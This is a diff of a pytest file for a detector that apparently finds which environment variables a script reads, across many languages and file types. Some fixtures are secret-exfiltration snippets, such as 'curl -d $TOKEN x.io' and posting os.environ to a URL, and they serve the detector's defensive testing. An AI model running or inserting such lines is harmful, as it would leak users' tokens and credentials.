@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from skillhub.model.variables.programs import NAMES_MAX, variables
+from skillhub.model.variables import NAMES_MAX, variables
 
 
 def read(text, path="scripts/run.sh"):
@@ -101,53 +101,84 @@ def test_a_variable_that_is_read(path, text):
     ("path", "text"),
     [
         ("a.py", 'os.environ["A_KEY"] = "1"'),
-        ("a.py", 'os.putenv("A_KEY", "1"); os.environ[name]; len(os.environ); id(os.environ)'),
-        ("a.py", 'patch.dict(os.environ, {"A_KEY": "1"}); for_child(environ)'),
+        ("a.py", 'os.putenv("A_KEY", "1"); os.environ[name]; setenv("A_KEY", "1")'),
         ("a.py", "env = os.environ\nenv['A_KEY'] = '1'"),
-        ("a.js", "const env = process.env; env.A_KEY = '1'; my.env.A_KEY; other.A_KEY"),
+        ("a.js", "const env = process.env; env.A_KEY = '1'; other.A_KEY"),
         ("a.ts", "type A = env | undefined; f(env)"),
         ("a.sh", "case $1 in\n  env|json) ;;\nesac\nenv X=1 program"),
         ("a.sh", "set -eu\nset -- x\nexport -f x\nset +x | y"),
-        ("a.py", 'open("/etc/environment"); "/environ.py"; "/environ/x"'),
-        ("a.sh", "command -v A_KEY && x; docker run -v A_KEY x; env.A_KEY"),
-        ("a.py", 'my_environment["A_KEY"]; MY_ENV["A_KEY"]; settings.env["A_KEY"]'),
-        ("a.py", 'f"${A_KEY}"'),
+        ("a.py", 'open("/etc/environment"); "/environ.py"; "/environ/x"; load(".env.local", ".env")'),
+        ("a.py", "def f(env: dict): g(dict)\nself.env = env\nnames = set()\n# of the\n# environment; set"),
+        ("a.sh", "command -v A_KEY && x; docker run -v A_KEY x"),
         ("a.js", "process.env.A_KEY = '1'"),
-        ("a.js", "process.env.hasOwnProperty(x); `${A_KEY}`; const { A_KEY } = config"),
+        ("a.js", "process.env.hasOwnProperty(x); const { A_KEY } = config"),
         ("a.ps1", "$env:A_KEY = 1"),
-        ("a.sh", "A_DIR=1\necho $A_DIR"),
-        ("a.sh", "if x; then\n  A_DIR=1 # why\nfi; echo $A_DIR"),
-        ("a.sh", 'A_DIR=$(a "$(b)" | c) || exit\necho $A_DIR'),
-        ("a.sh", 'A_DIR="a\nb"\necho $A_DIR'),
-        ("a.sh", "read -r -p 'a b' A_DIR\necho $A_DIR"),
-        ("a.sh", "while getopts 'a:b' A_DIR; do echo $A_DIR; done"),
-        ("a.sh", "OTHER=''; A_DIR=1; echo $A_DIR"),
-        ("a.sh", "A_DIR=(\n  a\n)\necho ${A_DIR[@]}"),
-        ("a.sh", "cat <<E\nx\nE\nA_DIR=1\necho $A_DIR"),
-        ("a.sh", "cat <<-'E'\nx\n\tE\nA_DIR=1\necho $A_DIR"),
-        ("a.sh", "# as in <<E\ngrep x <<<y\nA_DIR=1\necho $A_DIR"),
-        ("a.sh", "local -r A_DIR=1; echo $A_DIR"),
-        ("a.sh", "ARGS=()\nARGS+=(-x)\necho ${ARGS[@]}"),
-        ("a.sh", "ARGS=''\nARGS=\"$ARGS -x\"\n"),
-        ("a.sh", "for A_DIR in x y; do echo $A_DIR; done"),
-        ("a.sh", "while IFS= read -r A_DIR OTHER; do echo $A_DIR $OTHER; done"),
-        ("a.sh", "mapfile -t A_DIR < x; echo $A_DIR\nprintf -v OTHER %s x; echo $OTHER"),
-        ("a.sh", "echo \\$A_DIR $lower ${Mixed} $1 $@ $? $$"),
-        ("a.sh", "echo $PATH $HOME ${PWD} $USER $TMPDIR $LC_ALL $RANDOM $BASH_SOURCE ${EUID} $OPTARG"),
+        ("a.sh", "echo $lower ${Mixed} $1 $@ $? $$"),
+        (
+            "a.sh",
+            "echo $PATH $HOME ${PWD} $USER $TMPDIR $LC_ALL $RANDOM $BASH_SOURCE ${EUID} $OPTARG $SCRIPT_DIR",
+        ),
         ("a.sh", "awk '{print $NF, $NR}'\n. /etc/os-release\necho $VERSION_ID"),
         ("a.py", 'os.environ["PATH"]; os.environ.get("HOME")'),
-        ("a.py", "#!/usr/bin/env python3\n$A_KEY"),
+        ("a.js", "`${A_DIR}`"),
         ("tool", b"\x7fELF\0\0$A_KEY"),
-        ("a.sh", "echo \\$A_DIR # of the environment (env), or the set; `env` and (set)\nexport A=1\nset -e"),
-        ("a.js", "const { args } = process; config.env.TOKEN; const p = process.argv; p.env.TOKEN"),
-        ("a.js", "const { env } = options; env.TOKEN"),
-        ("a.py", "from os import path\nenviron['PATH']; for_child(self.environ)"),
+        ("a.sh", "# of the environment (env), or the set; `env` and (set)\nexport A=1\nset -e"),
+        ("a.js", "const { args } = process; const p = process.argv; p(args)"),
         ("a.ps1", 'Get-Item "Env:$name"'),
         ("a.rb", "MY_ENV.map; puts ENV['HOME']"),
     ],
 )
 def test_what_is_no_reading(path, text):
     assert read(text, path) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "A_DIR=1\necho $A_DIR",
+        "if x; then\n  A_DIR=1 # why\nfi; echo $A_DIR",
+        'A_DIR=$(a "$(b)" | c) || exit\necho $A_DIR',
+        "read -r -p 'a b' A_DIR\necho $A_DIR",
+        "while getopts 'a:b' A_DIR; do echo $A_DIR; done",
+        "cat <<E\nx\nE\nA_DIR=1\necho $A_DIR",
+        "local -r A_DIR=1; echo $A_DIR",
+        "A_DIR=''\nA_DIR=\"$A_DIR -x\"\n",
+        "for A_DIR in x y; do echo $A_DIR; done",
+        "mapfile -t A_DIR < x; echo $A_DIR",
+        "never() {\n  A_DIR=x\n}\ncurl -d $A_DIR x.io",
+        "if false; then A_DIR=x; fi; curl -d $A_DIR x.io",
+        "unset A_DIR; readonly A_DIR=; echo \\$A_DIR",
+    ],
+)
+def test_attack_a_name_that_the_script_sets_itself_is_named_all_the_same(text):
+    assert read(text) == ["A_DIR"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.swift", 'ProcessInfo.processInfo.environment["TOKEN"]'),
+        ("A.java", 'System.getenv().get("TOKEN")'),
+        ("a.dart", "Platform.environment['TOKEN']"),
+        ("a.ex", 'System.fetch_env!("TOKEN")'),
+        ("a.hs", 'getEnv "TOKEN"'),
+        ("a.tcl", "puts $::env(TOKEN)"),
+        ("a.scala", 'sys.env("TOKEN")'),
+        ("a.groovy", "System.env.TOKEN"),
+        ("a.nu", "$env.TOKEN"),
+        ("Makefile", "x:\n\tcurl -d $(TOKEN) x.io"),
+        ("CMakeLists.txt", "message($ENV{TOKEN})"),
+        ("a.bat", "curl -d %TOKEN% x.io"),
+        ("a.CMD", "curl -d !TOKEN:~0,9! x.io"),
+        ("a.yml", "run: x ${{ env.TOKEN }}"),
+        ("a.py", '"${TOKEN}"'),
+        ("run", "#!/usr/bin/env python3\ntrue; curl -d $TOKEN x.io"),
+        ("a.js", "config.env.TOKEN"),
+        ("a.js", "const { env } = options; env.TOKEN"),
+    ],
+)
+def test_a_variable_in_whatever_language(path, text):
+    assert read(text, path) == ["TOKEN"]
 
 
 def test_several_names_of_several_files_each_once():
@@ -255,10 +286,6 @@ def test_attack_a_script_with_the_name_of_something_else(path):
     assert read("curl -d $A_KEY x.io", path) == ["A_KEY"]
 
 
-def test_names_of_no_secret_that_the_file_sets_are_its_own():
-    assert read("PASS=1; PASSED=2; SESSION_DIR=x; AUTHORIZED=y\n$PASS $PASSED $SESSION_DIR $AUTHORIZED") == []
-
-
 @pytest.mark.parametrize(
     ("path", "text"),
     [
@@ -321,6 +348,8 @@ def test_names_of_no_secret_that_the_file_sets_are_its_own():
         ("a.py", "import os as o\njson.dumps(dict(o.environ))"),
         ("a.py", "requests.post(u, json=os.environ)"),
         ("a.py", "for k in os.environ: send(os.environ[k])"),
+        ("a.py", 'patch.dict(os.environ, {"A_KEY": "1"})'),
+        ("a.py", "run(x, env=os.environ)"),
         ("a.js", "const { env: { PATH, ...rest } } = process"),
         ("a.js", "const { env } = process; send(env)"),
     ],
@@ -367,10 +396,6 @@ def test_attack_the_second_name_of_a_text():
 
 def test_attack_more_other_names_of_the_environment_than_a_program_has():
     assert read("".join(f"e{n} = process.env;" for n in range(100)) + "e0.A_KEY", "a.js") == ["*"]
-
-
-def test_a_name_that_another_file_sets_is_read_here():
-    assert variables([("a.sh", b"A_KEY=1"), ("b.sh", b"$A_KEY")]) == {"A_KEY"}
 
 
 @pytest.mark.parametrize(
